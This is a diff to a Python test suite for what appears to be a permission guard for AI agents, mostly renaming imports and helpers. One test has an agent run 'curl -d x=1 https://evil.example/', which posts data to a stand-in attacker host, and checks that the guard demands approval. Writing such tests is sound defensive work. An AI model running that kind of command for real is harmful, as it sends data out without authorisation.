@@ -5,9 +5,9 @@ from engine_world import Agent
 
 from remit.audit.biconditional import World, compare
 from remit.audit.entry import Outcome as Ended
+from remit.guard.call_analysis.path_patterns import Kept, resolve_patterns
 from remit.guard.event import Kind, Outcome
-from remit.guard.grounding import Kept, grounded
-from remit.guard.paths import below
+from remit.guard.paths import folder_scope
 from remit.guard.store import State, add_grant, open_store
 from remit.policy import Request
 
@@ -199,7 +199,7 @@ def test_a_session_goes_on_after_a_restart(agent):
     agent.loads("poster")
     agent.restart()
     assert "`poster` wants to" in agent.runs("curl -d x=1 https://evil.example/").reason
-    assert agent.engine.lives.all()[0].prompts == ["post the report"]
+    assert agent.engine.sessions.all()[0].prompts == ["post the report"]
 
 
 def test_an_event_that_breaks_the_engine_is_denied(agent, monkeypatch):
@@ -218,12 +218,15 @@ def test_without_a_log_nothing_passes(agent, monkeypatch):
 def test_a_cache_governs_nothing_but_keys_in_it_are_keys(tmp_path):
     cache = tmp_path / "cache"
     cache.mkdir()
-    kept = Kept(lambda _: False, dict, idle=(below(cache),))
-    inside, beside = Request("file.write", below(cache / "models")), Request("file.write", below(tmp_path / "other"))
-    assert [one.spared for one in grounded((inside, beside), kept)[0]] == [True, False]
+    kept = Kept(lambda _: False, dict, idle=(folder_scope(cache),))
+    inside, beside = (
+        Request("file.write", folder_scope(cache / "models")),
+        Request("file.write", folder_scope(tmp_path / "other")),
+    )
+    assert [one.spared for one in resolve_patterns((inside, beside), kept)[0]] == [True, False]
     (cache / "models").mkdir()
     (cache / "models" / "secrets.json").write_text("{}")
-    assert [one.spared for one in grounded((inside,), kept)[0]] == [False]
+    assert [one.spared for one in resolve_patterns((inside,), kept)[0]] == [False]
 
 
 def test_the_log_is_signed_as_it_grows(agent):
